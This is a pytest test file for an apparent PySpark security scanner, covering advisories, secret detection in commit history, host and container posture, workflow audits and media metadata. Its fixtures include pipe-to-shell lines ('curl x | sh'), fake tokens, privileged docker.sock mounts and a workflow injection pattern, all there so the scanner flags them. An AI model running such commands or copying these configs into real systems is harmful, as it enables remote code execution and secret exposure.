import io
import struct
import zipfile
import zlib
from datetime import date

from pyspark.sql import functions as F

from tracewell.functions import text as X
from tracewell.operators import commits as C
from tracewell.operators import containers as K
from tracewell.operators import fixes as R
from tracewell.operators import posture as P
from tracewell.operators import reach as H
from tracewell.operators import similarity as S
from tracewell.operators import style as Y
from tracewell.sinks import renderers as O
from tracewell.sources import media as M
from tracewell.streaming import watch as W


def rows(df, *cols):
    return sorted((tuple(r) for r in (df.select(*cols) if cols else df).collect()), key=str)


def test_advisories_reachability_and_severity(spark):
    deps = spark.createDataFrame([(1, "PyPI", "Py_YAML", "5.1"), (1, "npm", "left-pad", "1.0"), (2, "npm", None, "1"), (1, "PyPI", "Py_YAML", "5.1")], "key int, ecosystem string, name string, version string")
    hits = spark.createDataFrame([("PyPI", "py-yaml", "5.1", "A-1"), ("npm", "left-pad", "2.0", "A-2")], "ecosystem string, name string, version string, advisory string")
    assert rows(H.advisories_of(deps, hits)) == [(1, "PyPI", "Py_YAML", "5.1", "A-1")]
    own = spark.createDataFrame([("npm", "@a/b"), ("npm", "react"), ("PyPI", "Py.YAML"), ("Go", "x.test/m"), ("crates.io", "serde-json"), ("Maven", "org.a:b"), ("npm", "unused"), ("npm", None)], "ecosystem string, name string")
    mods = spark.createDataFrame([("src/a.js", "@a/b/lib/x"), ("tests/b.js", "react"), ("a.py", "py_yaml.loader"), ("m.go", "x.test/m/sub"), ("l.rs", "serde_json"), ("A.java", "org.a.C"), ("a.py", None)], "path string, module string")
    got = {r.name: r.level for r in H.reachability(own, mods).collect()}
    assert got == {"@a/b": "imported", "react": "tests only", "Py.YAML": "imported", "x.test/m": "imported", "serde-json": "imported", "org.a:b": "imported", "unused": "absent"}
    sym = spark.createDataFrame([("A", "m.load"), ("A", "gone"), ("B", None)], "advisory string, symbol string")
    files = spark.createDataFrame([("a", "x = m.load(1); load"), ("b", "reload()"), ("c", None)], "path string, text string")
    assert rows(H.symbols_used(sym, files)) == [("A", "m.load", 1)]
    sev = spark.createDataFrame([("MAL-1", "absent", False, False), ("A", "absent", False, None), ("A", "imported", True, False), ("A", "imported", False, False), ("A", "imported", True, True)], "a string, l string, h boolean, s boolean")
    assert [r[0] for r in sev.select(H.vulnerability_severity(F.col("a"), F.col("l"), F.col("h"), F.col("s"))).collect()] == ["critical", "medium", "medium", "high", "critical"]


def test_hygiene_gaps_and_exploited(spark):
    deps = spark.createDataFrame([("npm", "acme-internal-auth"), ("npm", "gone"), ("npm", "old"), ("npm", "raect"), ("npm", None)], "ecosystem string, name string")
    reg = spark.createDataFrame([("npm", "acme-internal-auth", True, date(2020, 1, 1), date(2024, 12, 1), False, 10**6, 900), ("npm", "gone", False, None, None, None, None, None), ("npm", "old", True, date(2015, 1, 1), date(2020, 1, 1), True, 10**6, 900), ("npm", "raect", True, date(2024, 12, 1), date(2024, 12, 2), False, 5, 1)],
                                "ecosystem string, name string, found boolean, created date, released date, archived boolean, downloads long, repos long")
    popular = spark.createDataFrame([("react", 0)], "name string, pos int")
    assert rows(H.dependency_hygiene(deps, reg, F.lit("2025-01-01").cast("date"), popular), "name", "id") == [("acme-internal-auth", "DEP-002"), ("gone", "DEP-001"), ("old", "DEP-010"), ("old", "DEP-011"), ("raect", "DEP-030"), ("raect", "DEP-031")]
    rel = spark.createDataFrame([("npm", "a", "1", date(2020, 1, 1)), ("npm", "a", "2", date(2021, 1, 1)), ("npm", "a", "3", date(2021, 1, 11)), ("npm", "b", "1", date(2020, 1, 1)), ("npm", "a", "3", date(2021, 1, 11))], "ecosystem string, name string, version string, published date")
    assert rows(H.release_gaps(rel)) == [("npm", "a", "3", 10)]
    kev = spark.createDataFrame([("C1", "Acme Web-Server"), ("C2", "web"), ("C3", "cd")], "cve string, product string")
    assert rows(H.exploited_products(spark.createDataFrame([("webserver",), ("acme",), ("cd",), (None,)], "name string"), kev)) == [("acme", "C1"), ("webserver", "C1")]


def test_cve_ladder(spark):
    inst = spark.createDataFrame([(1, "p", "1", "web"), (2, "p", "1", "cli")], "key int, product string, version string, scope string")
    none = "array<string>"
    hits = spark.createDataFrame([(1, "A", "high", ["CVE-1"], None, []), (1, "B", "high", [], None, ["ssl"]), (1, "C", "high", [], None, ["ssl", "http2"]), (1, "D", "low", [], None, None), (2, "E", "high", [], "web", []), (1, "G", "high", [], None, ["x"])], f"key int, advisory string, severity string, aliases {none}, scope string, needs {none}")
    probes = spark.createDataFrame([(1, "ssl", "no"), (1, "http2", "yes")], "key int, need string, answer string")
    logs = spark.createDataFrame([(1, "fixed (CVE-1), not CVE-10"), (2, None)], "key int, text string")
    assert {r.advisory: (r.status, r.severity) for r in H.cve_findings(inst, hits, probes, logs).collect()} == {
        "A": ("backported", "info"), "B": ("not configured", "info"), "C": ("reached", "high"), "D": ("affected", "low"), "E": ("not for this use", "info"), "G": ("unknown", "high")}


def test_commits(spark):
    log = spark.createDataFrame([("r", "\x1f".join(["s1", "Ann", "A@X.test", "100", "c", "subject\n\nbody\nmore"])), ("r", "broken"), ("r", "\x1f".join(["s2", "b", "b@x", "no", "c", "m"]))], "repo string, value string")
    assert rows(C.commit_records(log), "sha", "email", "ts", "subject", "body") == [("s1", "a@x.test", 100, "subject", "body\nmore")]
    key = "ghp_" + "Ab3" * 12
    p1 = f"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+k = {key}\n context\n"
    p2 = f"diff --git a/x b/x\n--- a/x\n+++ /dev/null\n@@ -1 +0,0 @@\n-k = {key}\n"
    lines = C.history_lines(spark.createDataFrame([("r", "s1", 1, p1), ("r", "s2", 2, p2), ("r", "s3", 3, None)], "repo string, sha string, ts long, patch string"))
    assert rows(lines, "sha", "file", "sign") == [("s1", "x", "+"), ("s2", "x", "-")]
    assert rows(C.history_tokens(lines, r"(ghp_\w{36})"), "state", "sha", "file") == [("Removed", "s2", "x")]
    made = [("r", f"{i:03}", "ann" if i % 2 else "bot", "a@x", i * 60, "c", "fix it" if i % 2 else "feat: add", "- a\n- b\n- c", 10, 200 if i == 0 else 1) for i in range(60)]
    df = spark.createDataFrame(made, "repo string, sha string, name string, email string, ts long, committer string, subject string, body string, changed long, files long")
    assert rows(C.self_review(df)) == [("r", 60, 30)]
    assert rows(C.ghosts(df, authors_least=2)) == [("r", 60, 2, 2)]
    assert {r.id for r in C.evidence(df).collect()} == {"bullets", "burst", "gaps", "root"}
    assert rows(C.authors(df)) == [("ann", "a@x", 30), ("bot", "a@x", 30)]
    assert C.evidence(df.limit(0)).count() == 0 and C.self_review(df.limit(0)).count() == 0
    raw = '{"id":"1","type":"PushEvent","actor":{"login":"a"},"repo":{"name":"o/r"},"created_at":"t","payload":{"ref":"m","head":"h","before":"b","commits":[{"author":{"name":"N","email":"e"}},{"author":{"name":"N","email":"e"}}]}}'
    e = spark.createDataFrame([(raw,), ("x",), (None,)], "v string").select(C.event_fields(F.col("v")).alias("e")).select("e.*").collect()
    assert (e[0].event_id, e[0].detail, e[0].identities) == ("1", "m h", ["N <e>"]) and e[1].event_id is None
    assert rows(C.hour_stats(spark.createDataFrame([("f", raw), ("f", "x")], "file string, value string"))) == [("f", 2, len(raw) + 1, False)]
    assert [r.event_id for r in C.newest_first(spark.createDataFrame([(1, 5), (2, 9)], "event_id int, created int")).collect()] == [2, 1]


def test_posture(spark):
    facts = spark.createDataFrame([("h", "sshd.permitrootlogin", "yes"), ("h", "kernel.randomize_va_space", "2"), ("h", "service.syslog", "active"), ("h", "mount./tmp", "rw,noexec"), ("h", "sshd.maxauthtries", "x"), ("h", None, "x")], "host string, key string, value string")
    got = {r.id for r in P.host_findings(facts).collect()}
    assert "SYS-SSH-01" in got and "SYS-KERN-01" not in got and "SYS-LOG-01" not in got and "SYS-LOG-02" in got and "SYS-FS-01" not in got and "SYS-SSH-06" not in got
    assert P.host_findings(facts.limit(0)).count() == 0
    assert rows(P.host_leads(spark.createDataFrame([("h", "cron.line", "curl x | sh"), ("h", "proc.exe", "/a (deleted)"), ("h", "proc.exe", None)], "host string, key string, value string")), "id") == [("LEAD-CRON",), ("LEAD-DELETED",)]
    js = spark.createDataFrame([(1, '{"allow_force_pushes": true, "branch_protection": {"enabled": false}}'), (2, '{"message": "Not Found"}'), (3, "x"), (4, None)], "key int, json string")
    assert rows(P.settings_findings(js), "key", "id") == [(1, "RST-201"), (1, "RST-210"), (2, "RST-000")]
    hosts = spark.createDataFrame([("https://u:p@a.b.Example.co.uk:8/x",), ("x.test.",), ("10.0.0.1",), ("localhost",), (None,)], "h string").select(P.registrable(F.col("h"))).collect()
    assert [r[0] for r in hosts] == ["example.co.uk", "x.test", None, None, None]
    d = spark.createDataFrame([("a", "s", ["v=DKIM1; k=rsa; p=MII"]), ("b", "s", ["v=DKIM1; p="]), ("c", "s", []), ("d", "s", None)], "domain string, selector string, txt array<string>")
    assert [r.status for r in P.dkim(d).orderBy("domain").collect()] == ["confirmed", "revoked", "absent", "inconclusive"]
    b = P.bimi(spark.createDataFrame([("a", ["v=BIMI1; l=https://x.test/l.svg; a="]), ("b", ["v=BIMI1; l="])], "domain string, txt array<string>"))
    assert rows(b) == [("a", "confirmed", "https://x.test/l.svg"), ("b", "declined", None)]
    m = P.mta_sts(spark.createDataFrame([("a", "version: STSv1\nmode: testing\nmx: *.m.test\n", ["10 m.test", "20 x.m.test."]), ("b", "mode: enforce\nmx: q.test\n", ["10 m.test"]), ("c", None, None)], "domain string, policy string, mx array<string>"))
    assert rows(m) == [("a", "testing", True), ("b", "enforce", False), ("c", "absent", None)]
    gaps = P.mail_gaps(spark.createDataFrame([("a", "+all")], "domain string, policy string"), spark.createDataFrame([("a", "none")], "domain string, policy string"), m, b)
    assert rows(gaps.where("domain = 'a'"), "id") == [("bimi-dmarc",), ("dmarc-none",), ("mtasts-mode",), ("spf-open",)]
    lic = P.license_audit(spark.createDataFrame([("p", "MIT", "GPL-3.0"), ("q", None, None)], "project string, declared string, found string"), spark.createDataFrame([("p", "x", "AGPL-3.0"), ("p", "y", None)], "project string, name string, license string"))
    assert rows(lic, "project", "id") == [("p", "LIC-003"), ("p", "LIC-010"), ("p", "LIC-011"), ("q", "LIC-001")]
    pub = spark.createDataFrame([(1, "a/.env"), (2, ".env.example"), (3, "x/.git/config"), (4, ".DS_Store"), (5, None)], "key int, path string")
    assert rows(P.publish_findings(pub), "key", "id") == [(1, "PUB-001"), (3, "PUB-002"), (4, "PUB-003")]
    young = P.young_repositories(spark.createDataFrame([("a", "2025-01-01T00:00:00Z"), ("b", "2020-01-01"), ("c", None)], "repo string, created string"), F.lit("2025-01-11").cast("date"))
    assert rows(young) == [("a", 10, "OSINT-001")]
    tok = "npm_" + "a1B2" * 9
    fp = spark.range(1).select(F.sha2(F.lit(tok), 256)).first()[0]
    live = P.liveness(spark.createDataFrame([(tok,), ("xoxb-" + "1" * 20,), ("plain",)], "token string"), spark.createDataFrame([(fp, True)], "token_fp string, live boolean"))
    assert rows(live, "provider", "id") == [("npm", "VER-001"), ("slack", "VER-002")]


def test_container_documents(spark):
    compose = "services:\n  a:\n    image: x\n    privileged: true\n    volumes: ['/var/run/docker.sock:/s']\n    network_mode: host\n    environment: [DB_PASSWORD=abc123]\n    cap_add: [SYS_ADMIN]\n    ports: ['2375:2375']\n  b:\n    image: r:5000/x@sha256:1\n    environment: {TOKEN: '${T}'}\n"
    pod = "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      hostNetwork: true\n      volumes: [{name: v, hostPath: {path: /var/run/docker.sock}}]\n      containers:\n      - name: c\n        image: x:latest\n        env: [{name: API_KEY, value: k}]\n        securityContext: {privileged: true, runAsUser: 0, allowPrivilegeEscalation: true}\n"
    flow = "on: pull_request_target\njobs:\n  j:\n    runs-on: self-hosted\n    secrets: inherit\n    steps:\n    - uses: actions/checkout@v4\n      with: {ref: '${{ github.event.pull_request.head.sha }}'}\n    - run: echo ${{ github.event.issue.title }} >> $GITHUB_ENV\n    - uses: o/r@" + "a" * 40 + "\n"
    df = spark.createDataFrame([(1, compose), (2, pod), (3, flow), (4, "jobs: [unclosed"), (5, None), (6, ""), (7, "jobs: 3")], "key int, text string")
    got = {}
    for r in K.audit(df).collect():
        got.setdefault(r.key, set()).add(r.id)
    assert got[1] == {f"CNT-10{i}" for i in range(1, 8)} and got[2] == {f"CNT-20{i}" for i in range(1, 8)}
    assert got[3] == {"WFA-001", "WFA-003", "WFA-004", "WFA-005", "WFA-006", "WFA-007", "WFA-009", "WFA-011"} and set(got) == {1, 2, 3}


def test_remediations(spark):
    df = spark.createDataFrame([(1, "Dockerfile", "FROM a\nRUN b"), (2, "x/Dockerfile", "FROM a\nUSER b"), (3, "a.py", "get(u, verify=False)\nyaml.load(f)"), (4, "w.yml", "- uses: o/r@v1\n- uses: o/q@v1"), (5, "a", None)], "key int, path string, text string")
    assert rows(R.remediations(df), "key", "line", "after") == [(3, 1, "get(u, verify=True)"), (3, 2, "yaml.safe_load(f)")]
    assert rows(R.without_user(df), "key", "after") == [(1, "FROM a\nRUN b\nUSER 65532\n")]
    pins = spark.createDataFrame([("o/r", "v1", "f" * 40)], "action string, ref string, sha string")
    assert rows(R.pinned_steps(df, pins)) == [(4, "o/r@v1", "o/r@" + "f" * 40 + " # v1")]
    deps, fixed = spark.createDataFrame([(1, "npm", "a", "1.9.0")], "key int, ecosystem string, name string, version string"), spark.createDataFrame([("npm", "a", "1.10.0"), ("npm", "a", "2.0.0"), ("npm", "a", "1.0.0")], "ecosystem string, name string, version string")
    assert rows(R.bumped(deps, fixed)) == [(1, "a", "1.9.0", "1.10.0")]


def png(*chunks, tail=b""):
    out = M.PNG
    for k, d in (("IHDR", struct.pack(">IIBBBBB", 7, 9, 8, 2, 0, 0, 0)), *chunks, ("IEND", b"")):
        out += struct.pack(">I", len(d)) + k.encode() + d + struct.pack(">I", zlib.crc32(k.encode() + d))
    return out + tail


def test_media(spark):
    tiff = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 1) + struct.pack("<HHII", 0x010F, 2, 5, 26) + struct.pack("<I", 0) + b"Acme\0"
    jpeg = b"\xff\xd8\xff\xe1" + struct.pack(">H", len(tiff) + 8) + b"Exif\0\0" + tiff + b"\xff\xc0" + struct.pack(">HBHH", 8, 8, 3, 4) + b"\0" + b"\xff\xda\0\x02x\xff\xd9more"
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w") as f:
        f.writestr("docProps/core.xml", "<x><dc:creator>Ann</dc:creator></x>")
    pdf = b"%PDF-1.7\n1 0 obj << /Author (Ann) /JS (x) >>\n%%EOF\n"
    mp3 = b"ID3\x03\0\0\0\0\0\x10TIT2" + struct.pack(">I", 5) + b"\0\0\0Song"
    df = spark.createDataFrame([(1, png(("tEXt", b"parameters\0Steps: 20, Sampler: E"), ("teSt", b"abc"), tail=b"evil")), (2, jpeg), (3, z.getvalue() + b"zz"), (4, pdf), (5, mp3), (6, b"GIF89a\x05\0\x06\0\0\0\0\x3b"), (7, None), (8, b""), (9, png()[:20]), (10, b"\xff\xd8\xff\xe1\0")], "key int, content binary")
    got = {(r.key, r.field): r.value for r in M.metadata(df).collect()}
    assert got[(1, "size")] == "7x9" and got[(2, "make")] == "Acme" and got[(2, "size")] == "4x3" and got[(3, "creator")] == "Ann" and got[(4, "author")] == "Ann" and got[(4, "active")] == "javascript" and got[(5, "title")] == "Song" and got[(6, "size")] == "5x6"
    assert rows(M.origins(df)) == [(1, "parameters")]
    assert rows(M.hidden(df)) == [(1, "chunk teSt", 3), (1, "trailing", 4), (2, "trailing", 4), (3, "trailing", 2)]


def test_watches(spark):
    st = spark.createDataFrame([("r", "hooks.json", "a"), ("r", "b.md", "x"), ("r", "gone", "y")], "root string, path string, sha256 string")
    now = spark.createDataFrame([("r", "hooks.json", "b"), ("r", "b.md", None), ("r", "mcp.json", "n"), ("new", "z", "1")], "root string, path string, sha256 string")
    events, after = W.tripwire(st, now)
    assert rows(events, "path", "change", "id") == [("b.md", "unreadable", "AW-011"), ("gone", "removed", "AW-009"), ("hooks.json", "changed", "AW-001"), ("mcp.json", "added", "AW-002")]
    assert rows(after) == [("new", "z", "1"), ("r", "b.md", "x"), ("r", "hooks.json", "b"), ("r", "mcp.json", "n")]
    look = lambda *r: spark.createDataFrame(list(r), "name string, candidate string, addrs array<string>")
    ev, s1 = W.live_lookalikes(spark.createDataFrame([], "name string, candidate string"), look(("a", "b", ["1"]), ("a", "c", [])))
    ev2, _ = W.live_lookalikes(s1, look(("a", "b", ["1"]), ("a", "c", ["2"])))
    assert ev.count() == 0 and rows(ev2) == [("a", "c", "DWATCH-010")]
    warn = spark.createDataFrame([("d", "DWATCH-008", "2025-01-01")], "domain string, id string, value string")
    e1, s = W.posture_once(warn.limit(0), warn)
    assert e1.count() == 1 and W.posture_once(s, warn)[0].count() == 0
    ix = spark.createDataFrame([("r", "a", 1, 1), ("r", "b", 1, 1), ("q", "c", 1, 1)], "root string, path string, mtime int, size int")
    todo, kept, gone = W.index_files(ix, spark.createDataFrame([("r", "a", 1, 1), ("r", "n", 1, 1)], ix.schema))
    assert rows(todo, "path") == [("n",)] and rows(kept, "path") == [("a",)] and rows(gone, "path") == [("b",)]
    e, s = W.union_of_scans(spark.createDataFrame([("r", "1")], "repo string, fp string"), spark.createDataFrame([("r", "2"), ("q", "1")], "repo string, fp string"))
    assert rows(e) == [("q", "1"), ("r", "2")] and s.count() == 3


def test_hour_files_as_a_stream(spark, tmp_path):
    import gzip

    (tmp_path / "in").mkdir()
    with gzip.open(tmp_path / "in" / "h.json.gz", "wt") as f:
        f.write('{"id": "1", "repo": "Acme/x"}\n{"id": "2", "repo": "other"}\nacme broken\n')
    q = W.hourly_events(spark, str(tmp_path / "in"), "acme", "id string, repo string").writeStream.format("parquet").option("path", str(tmp_path / "o")).option("checkpointLocation", str(tmp_path / "c")).trigger(availableNow=True).start()
    q.awaitTermination(60)
    assert [r.id for r in spark.read.parquet(str(tmp_path / "o")).where("id IS NOT NULL").collect()] == ["1"]


def test_sinks_and_small_functions(spark):
    import json

    f = spark.createDataFrame([("R-1", "high", "t", "a", 1, "x", "m"), ("R-1", "low", "t", None, None, None, "<b>")], "rule_id string, severity string, target string, path string, line int, excerpt string, message string")
    log = json.loads(O.sarif_log(f))
    assert log["version"] == "2.1.0" and len(log["runs"][0]["results"]) == 2 and len(log["runs"][0]["tool"]["driver"]["rules"]) == 1
    assert O.html_report(f).startswith("<!doctype html>") and "R-1" in O.html_report(f)
    st = json.loads(O.attestation(f, "repo", "ab", "cd").first()[0])
    assert st["predicate"]["total"] == 2 and st["subject"][0]["digest"]["sha256"] == "ab"
    assert all(r.signature.startswith("sha256=") and len(r.signature) == 71 for r in O.hook_calls(f, b"k").collect())
    assert O.baseline_signed(f, b"k", "legacy").columns == ["fp"] and "mac" in O.baseline_signed(f, b"k", "signed").columns
    tok = "Ab3dEf6hIj9kLm2n"
    assert spark.range(1).select(X.mask_entropy(F.lit(f"k: {tok} aaaaaaaaaaaaaaaaaaaa"))).first()[0] == "k: Ab3d...m2n aaaaaaaaaaaaaaaaaaaa"
    rep = Y.style_report(spark.createDataFrame([(1, "w " * 300, "report"), (2, "x\n" * 200, "code"), (3, None, None), (4, "", None)], "key int, text string, kind string"))
    assert rows(rep, "key", "reliability") == [(1, "fair"), (2, "good"), (4, "too short")]
    vex = spark.createDataFrame([(0, "R-1", "fixed")], "idx int, vuln string, status string")
    from tracewell.operators.report import apply_vex

    assert [r.vex_status for r in apply_vex(f, vex).collect()] == ["fixed", "fixed"]


def test_renamed_copies_and_two_collections(spark):
    def code(a, b):
        return "\n".join(f"def {a}{i}({b}, n):\n    {b} = {b} + {i}\n    if n > {i}:\n        return {b}.get('k{i}', n * {i % 3})" + (" - 1" if i % 4 == 0 else "\n    for q in n: pass" if i % 7 == 0 else "") for i in range(30))

    df = spark.createDataFrame([(1, code("load", "x")), (2, code("fetch", "value")), (3, "x = 1"), (4, None)], "key int, text string")
    fps = S.fingerprints(df, S.shape_tokens(F.col("text")))
    got = S.across(fps.where("key = 1"), fps.where("key = 2")).collect()
    assert [(r.kind, r.jaccard) for r in got] == [("copy", 1.0)]
    _, pairs = S.similar(S.fingerprints(df, S.code_tokens(F.col("text"))))
    assert S.classify(pairs).count() == 0  # by names they differ
    assert S.across(fps.limit(0), fps).count() == 0


def test_attestations(spark):
    import base64
    import hashlib
    import json

    from tracewell.operators.attestation import leaf_hash, root_of, verify

    node = lambda a, b: hashlib.sha256(b"\x01" + a + b).digest()

    def tree(leaves):
        if len(leaves) == 1:
            return leaves[0]
        k = 1
        while k * 2 < len(leaves):
            k *= 2
        return node(tree(leaves[:k]), tree(leaves[k:]))

    def path(i, leaves):
        if len(leaves) == 1:
            return []
        k = 1
        while k * 2 < len(leaves):
            k *= 2
        return path(i, leaves[:k]) + [tree(leaves[k:])] if i < k else path(i - k, leaves[k:]) + [tree(leaves[:k])]

    for n in range(1, 12):
        leaves = [leaf_hash(bytes([i])) for i in range(n)]
        for i in range(n):
            assert root_of(i, n, leaves[i], path(i, leaves)) == tree(leaves)
            assert n == 1 or root_of(i, n, leaves[i], path(i, leaves)[:-1]) != tree(leaves)
    leaves = [leaf_hash(bytes([i])) for i in range(5)]
    made = {"payload": base64.b64encode(json.dumps({"subject": [{"digest": {"sha256": "AB"}}]}).encode()).decode(), "identity": "me"}
    proof = {"logIndex": 3, "treeSize": 5, "rootHash": tree(leaves).hex(), "entry": base64.b64encode(b"\x03").decode(), "hashes": [x.hex() for x in path(3, leaves)]}
    good, bad = json.dumps({**made, "inclusionProof": proof}), json.dumps({**made, "inclusionProof": {**proof, "logIndex": 2}})
    df = spark.createDataFrame([(1, good, "ab", "me"), (2, bad, "ab", None), (3, good, "cd", "you"), (4, "x", None, None), (5, None, None, None), (6, '{"payload": "!!"}', None, None)], "key int, bundle string, digest string, identity string")
    assert [(r.key, r.verdict, r.ids) for r in verify(df).orderBy("key").collect()] == [(1, "partial", []), (2, "fail", ["AT-004"]), (3, "fail", ["AT-002", "AT-003"]), (4, "fail", ["AT-001"]), (5, "fail", ["AT-001"]), (6, "fail", ["AT-001"])]


def test_names_places_first_seen_and_caps(spark):
    from tracewell.functions.deps import inventory, name_candidates
    from tracewell.operators.events import after_cursor, capped, first_seen

    f = spark.createDataFrame([(1, "package.json", '{"dependencies": {"left-pad": "1.0.0", "pad": "2.0.0"}}'), (2, "a/b/requirements.txt", "x==1\n"), (3, "a.py", "x==1"), (4, "go.sum", None)], "key int, path string, text string")
    assert rows(name_candidates(f)) == [(1, "npm", "left-pad", 19), (1, "npm", "pad", 40), (2, "PyPI", "x", 0)]
    assert rows(inventory(f)) == [("*", 3, 3, 2), ("PyPI", 1, 1, 1), ("npm", 2, 2, 1)] and rows(inventory(f, 1), "ecosystem") == [("*",), ("npm",)]
    e = spark.createDataFrame([("r", "b", 2, 5), ("r", "a", 2, 6), ("r", "a", 9, 7), ("r", None, 1, 8), ("q", "z", 1, 9)], "repo string, v string, ts int, id int")
    assert rows(first_seen(e, "repo", "v", "ts"), "repo", "v", "place") == [("q", "z", 1), ("r", "a", 1), ("r", "b", 2)]
    assert rows(after_cursor(e, spark.createDataFrame([("r", 6)], "repo string, cursor int"), "repo", "id"), "id") == [(7,), (8,)]
    assert rows(capped(e, "repo", ["id"], 2), "id", "truncated") == [(5, True), (6, True), (9, False)]
    s = spark.range(1).select(X.redact_config(F.lit("url = https://u:p@h/x\ndb_password = hunter2\nname = x\nAuthorization: Bearer abc"))).first()[0]
    assert s == "url = https://***@h/x\ndb_password = ***\nname = x\nAuthorization: Bearer ***"


def test_more_lock_files_images_and_packed_programs(spark):
    import os

    from tracewell.functions.deps import parse
    from tracewell.operators.audits import binary_findings, image_findings

    assert parse("Pipfile.lock", '{"default": {"a": {"version": "==1.0"}}, "develop": {"b": {}}}') == [("PyPI", "a", "1.0")]
    assert parse("packages.lock.json", '{"dependencies": {"net8": {"A.B": {"resolved": "1.2.3"}}}}') == [("NuGet", "A.B", "1.2.3")]
    assert parse("Package.resolved", '{"pins": [{"identity": "x", "location": "https://h/x", "state": {"version": "1.0.0"}}]}') == [("SwiftURL", "https://h/x", "1.0.0")]
    assert parse("pubspec.lock", 'packages:\n  http:\n    dependency: direct\n    source: hosted\n    version: "1.1.0"\n') == [("Pub", "http", "1.1.0")]
    assert parse("mix.lock", '%{\n  "jason": {:hex, :jason, "1.4.0", "x"},\n}') == [("Hex", "jason", "1.4.0")]
    assert parse("gradle.lockfile", "# c\na.b:c:1.0=runtimeClasspath\nempty=\n") == [("Maven", "a.b:c", "1.0")]
    assert parse("Podfile.lock", "PODS:\n  - Alamo (5.4.0)\n  - B/C (1.0):\n    - D (~> 2)\n") == [("CocoaPods", "Alamo", "5.4.0"), ("CocoaPods", "B/C", "1.0")]
    df = spark.createDataFrame([(1, '{"config": {"Env": ["DB_PASSWORD=x"], "User": ""}, "history": [{"created_by": "RUN curl https://x | sh"}]}'), (2, '{"config": {"User": "app", "Healthcheck": {}}}'), (3, "x"), (4, None)], "key int, config string")
    assert rows(image_findings(df), "key", "id") == [(1, "IMG-001"), (1, "IMG-002"), (1, "IMG-003"), (1, "IMG-004")]
    packed = spark.createDataFrame([(1, "a", b"\x7fELF" + os.urandom(8192)), (2, "b", b"\x7fELF" + b"a" * 8192), (3, None, None)], "key int, path string, content binary")
    assert rows(binary_findings(packed)) == [(1, "BIN-005")]
